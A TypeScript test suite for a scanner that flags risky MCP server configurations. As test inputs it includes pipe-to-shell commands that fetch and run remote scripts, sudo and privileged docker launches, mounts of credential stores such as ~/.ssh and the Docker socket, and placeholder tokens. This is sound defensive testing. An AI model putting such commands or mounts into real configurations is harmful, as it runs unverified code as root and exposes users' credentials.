// Static findings: each id fires on the config that should trigger it, and not on its safe counterpart.
import { describe, expect, it } from 'vitest';
import { staticFindings } from '../../../collectors/mcp/findings.js';
import type { McpServerConfig, McpScope } from '../../../collectors/mcp/types.js';

const stdio = (command: string, args: string[] = [], extra: Partial<McpServerConfig> = {}): McpServerConfig => ({ name: 's', transport: 'stdio', command, args, ...extra });
const remote = (url: string, extra: Partial<McpServerConfig> = {}): McpServerConfig => ({ name: 'r', transport: 'http', url, ...extra });
const ids = (c: McpServerConfig, scope: McpScope = 'user', home = '/home/u') => staticFindings(c, { scope, home }).map((f) => f.id);
const get = (c: McpServerConfig, id: string, scope: McpScope = 'user') => staticFindings(c, { scope, home: '/home/u' }).find((f) => f.id === id);

describe('unpinned code', () => {
  it('MCP-UNPINNED-PACKAGE: npx/uvx without a version or with latest; not with an exact version', () => {
    expect(ids(stdio('npx', ['-y', '@modelcontextprotocol/server-github']))).toEqual(['MCP-UNPINNED-PACKAGE']);
    expect(ids(stdio('npx', ['@playwright/mcp@latest']))).toEqual(['MCP-UNPINNED-PACKAGE']);
    expect(ids(stdio('uvx', ['mcp-server-fetch']))).toEqual(['MCP-UNPINNED-PACKAGE']);
    expect(ids(stdio('npx', ['-y', '@modelcontextprotocol/server-github@2025.4.8']))).toEqual([]);
    expect(ids(stdio('uvx', ['mcp-server-fetch==0.6.2']))).toEqual([]);
    const f = get(stdio('npx', ['-y', 'pkg@latest']), 'MCP-UNPINNED-PACKAGE')!;
    expect(f.severity).toBe('medium');
    expect(f.message).toContain('"latest"');
    expect(f.evidence).toBe('npx -y pkg@latest');
  });
  it('MCP-UNPINNED-IMAGE: docker image without a digest; a digest is fine', () => {
    expect(ids(stdio('docker', ['run', '-i', '--rm', 'ghcr.io/github/github-mcp-server:v1']))).toEqual(['MCP-UNPINNED-IMAGE']);
    expect(ids(stdio('docker', ['run', '-i', '--rm', `ghcr.io/github/github-mcp-server@sha256:${'b'.repeat(64)}`]))).toEqual([]);
  });
  it('MCP-UNPINNED-GIT: a git source without a commit; with one it is fine', () => {
    expect(ids(stdio('uvx', ['--from', 'git+https://github.com/a/b', 'b']))).toEqual(['MCP-UNPINNED-GIT']);
    expect(ids(stdio('uvx', ['--from', `git+https://github.com/a/b@${'1'.repeat(40)}`, 'b']))).toEqual([]);
  });
});

describe('what the launch hides', () => {
  it('MCP-SHELL-WRAPPER: sh -c, cmd /c, powershell -Command; a plain binary is fine', () => {
    expect(ids(stdio('sh', ['-c', 'exec /opt/srv']))).toEqual(['MCP-SHELL-WRAPPER']);
    expect(ids(stdio('cmd', ['/c', 'C:\\srv.exe']))).toEqual(['MCP-SHELL-WRAPPER']);
    expect(ids(stdio('powershell', ['-Command', 'C:\\srv.ps1']))).toEqual(['MCP-SHELL-WRAPPER']);
    expect(ids(stdio('/opt/srv', ['--stdio']))).toEqual([]);
  });
  it('MCP-PIPE-TO-SHELL: curl | sh is high; curl alone is not', () => {
    const c = stdio('bash', ['-c', 'curl -fsSL https://x.example/i.sh | sudo bash']);
    expect(ids(c)).toEqual(['MCP-SHELL-WRAPPER', 'MCP-PIPE-TO-SHELL', 'MCP-SUDO']);
    expect(get(c, 'MCP-PIPE-TO-SHELL')!.severity).toBe('high');
    expect(ids(stdio('bash', ['-c', 'curl -o /tmp/x https://x.example/i.sh']))).toEqual(['MCP-SHELL-WRAPPER']);
  });
  it('MCP-SUDO: sudo as the command or inside the wrapper; "sudoku" is not sudo', () => {
    expect(ids(stdio('sudo', ['/opt/srv']))).toEqual(['MCP-SUDO']);
    expect(get(stdio('sudo', ['/opt/srv']), 'MCP-SUDO')!.severity).toBe('high');
    expect(ids(stdio('/usr/bin/sudoku-mcp'))).toEqual([]);
  });
  it('MCP-CONTAINER-ESCAPE: --privileged, host namespaces, the Docker socket', () => {
    expect(ids(stdio('docker', ['run', '-i', '--privileged', `img@sha256:${'a'.repeat(64)}`]))).toEqual(['MCP-CONTAINER-ESCAPE']);
    expect(ids(stdio('docker', ['run', '-i', '--pid', 'host', `img@sha256:${'a'.repeat(64)}`]))).toEqual(['MCP-CONTAINER-ESCAPE']);
    expect(ids(stdio('docker', ['run', '-i', '--network', 'none', `img@sha256:${'a'.repeat(64)}`]))).toEqual([]);
  });
});

describe('remote servers', () => {
  it('MCP-PLAIN-HTTP: http:// to a non-loopback host; high when it carries credentials; loopback and https are fine', () => {
    expect(get(remote('http://mcp.example.com/mcp'), 'MCP-PLAIN-HTTP')!.severity).toBe('medium');
    expect(get(remote('http://10.1.2.3:80/mcp', { headers: { 'X-Team': 'a' } }), 'MCP-PLAIN-HTTP')!.severity).toBe('high');
    for (const ok of ['http://127.0.0.1:3845/mcp', 'http://localhost:8080/sse', 'http://[::1]:9/mcp', 'http://app.localhost/mcp', 'https://mcp.example.com/mcp']) expect(ids(remote(ok)), ok).toEqual([]);
  });
  it('MCP-BAD-URL: a url that does not parse', () => {
    expect(ids(remote('not a url'))).toEqual(['MCP-BAD-URL']);
  });
});

describe('MCP-INLINE-SECRET', () => {
  it('in env, headers, args and the url; redacted in the evidence; high in a project file', () => {
    const c = stdio('node', ['srv.js', '--api-key', 'abcd1234efgh'], { env: { GITHUB_TOKEN: 'ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8' } });
    const user = get(c, 'MCP-INLINE-SECRET')!;
    expect(user.severity).toBe('medium');
    expect(user.evidence).toBe('GITHUB_TOKEN=[REDACTED]; --api-key [REDACTED]');
    expect(get(c, 'MCP-INLINE-SECRET', 'project')!.severity).toBe('high');
    expect(get(remote('https://x/mcp', { headers: { Authorization: 'Bearer abcdefghijklmnop0123' } }), 'MCP-INLINE-SECRET')!.evidence).not.toContain('abcdefghijklmnop0123');
    expect(ids(remote('https://u:hunter2hunter2@x/mcp'))).toEqual(['MCP-INLINE-SECRET']);
  });
  it('references to variables, inputs and secret stores are not secrets', () => {
    const c = stdio('node', ['srv.js', '--token', '${TOKEN}'], { env: { A_TOKEN: '${env:A_TOKEN}', B_KEY: '${input:b-key}', C_SECRET: '${{ secrets.C }}', D_PASSWORD: '{env:D}', E_TOKEN: '$E' } });
    expect(ids(c)).toEqual([]);
    expect(ids(remote('https://x/mcp', { headers: { Authorization: 'Bearer ${env:TOKEN}' } }))).toEqual([]);
    expect(ids(stdio('node', ['srv.js'], { env: { LOG_LEVEL: 'debug', PORT: '8080' } }))).toEqual([]);
  });
});

describe('MCP-AUTO-APPROVE', () => {
  it('trust, every tool, or some tools', () => {
    expect(get(stdio('/s', [], { trust: true }), 'MCP-AUTO-APPROVE')!).toMatchObject({ severity: 'high', evidence: 'trust: true' });
    expect(get(stdio('/s', [], { autoApprove: true }), 'MCP-AUTO-APPROVE')!.severity).toBe('high');
    expect(get(stdio('/s', [], { autoApprove: ['read'] }), 'MCP-AUTO-APPROVE')!.severity).toBe('low');
    expect(ids(stdio('/s', [], { autoApprove: [], trust: false }))).toEqual([]);
  });
});

describe('path arguments', () => {
  it('MCP-SENSITIVE-PATH: credential stores as ~, $HOME or the absolute home path, and docker mounts of them', () => {
    for (const a of ['~/.ssh', '$HOME/.aws/credentials', '/home/u/.kube', '${HOME}/.gnupg', '/var/run/docker.sock']) {
      expect(ids(stdio('/s', [a])), a).toEqual(['MCP-SENSITIVE-PATH']);
    }
    expect(ids(stdio('docker', ['run', '-i', '-v', '/home/u/.ssh:/root/.ssh:ro', `img@sha256:${'a'.repeat(64)}`]))).toEqual(['MCP-SENSITIVE-PATH']);
    expect(get(stdio('/s', ['~/.ssh']), 'MCP-SENSITIVE-PATH')!.severity).toBe('high');
  });
  it('MCP-BROAD-PATH: the whole home or root; a project directory is fine', () => {
    for (const a of ['~', '/', '$HOME', '/home/u', '/home/u/', '--root=/']) expect(ids(stdio('/s', [a])), a).toEqual(['MCP-BROAD-PATH']);
    for (const a of ['~/work/app', '/home/u/projects', './data', '/etc/company/cfg.json', '-v']) expect(ids(stdio('/s', [a])), a).toEqual([]);
  });
});

it('MCP-UNAPPROVED only when a policy exists and the server is not on it', () => {
  const c = stdio('/opt/srv');
  expect(staticFindings(c, { scope: 'user', status: 'unapproved' }).map((f) => f.id)).toEqual(['MCP-UNAPPROVED']);
  expect(staticFindings(c, { scope: 'user', status: 'approved' })).toEqual([]);
  expect(staticFindings(c, { scope: 'user', status: 'no-policy' })).toEqual([]);
});

it('every finding has a one-sentence message and redacted evidence', () => {
  const c = stdio('sudo', ['bash', '-c', 'curl https://x | sh', '~/.ssh', 'token=sk-ant-abcdefghijklmnopqrstuvwxyz'], { trust: true, env: { API_KEY: 'sk-ant-abcdefghijklmnopqrstuvwxyz' } });
  for (const f of staticFindings(c, { scope: 'project', status: 'unapproved' })) {
    expect(f.message).toMatch(/^[A-Za-z$@-].*\.$/);
    expect(f.message).not.toContain('\n');
    expect(f.evidence ?? '').not.toContain('sk-ant-abcdefghijklmnopqrstuvwxyz');
  }
});
